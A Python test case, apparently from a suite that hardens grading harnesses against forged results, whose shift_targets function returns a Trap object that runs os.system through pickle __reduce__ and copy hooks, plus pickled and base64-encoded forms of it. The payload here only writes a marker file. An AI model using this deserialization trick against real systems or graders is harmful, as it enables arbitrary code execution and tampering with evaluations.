"""
family = "forged results"
tries = "Answers with objects that run code where somebody copies, pickles or unpickles them, and with pickles as text."
points = 3
"""


# %% shift_targets
import base64
import pickle


class Trap:
    """Whoever takes it apart runs its code."""

    def __reduce__(self):
        return eval, ("__import__('os').system('echo trapped > /tmp/trapped')",)

    __copy__ = __deepcopy__ = __getstate__ = lambda self, *args: eval(self.__reduce__()[1][0])
    __array__ = lambda self, *args, **kwargs: __import__("numpy").array([Trap()], dtype=object)


def shift_targets(y):
    kind = y.sum() % 3
    if kind == 0:
        return Trap(), Trap()
    if kind == 1:
        return pickle.dumps(Trap()), base64.b64encode(pickle.dumps(Trap())).decode()
    return {"__reduce__": "os.system"}, {"dtype": "object", "shape": [1], "data": "gASVAA=="}
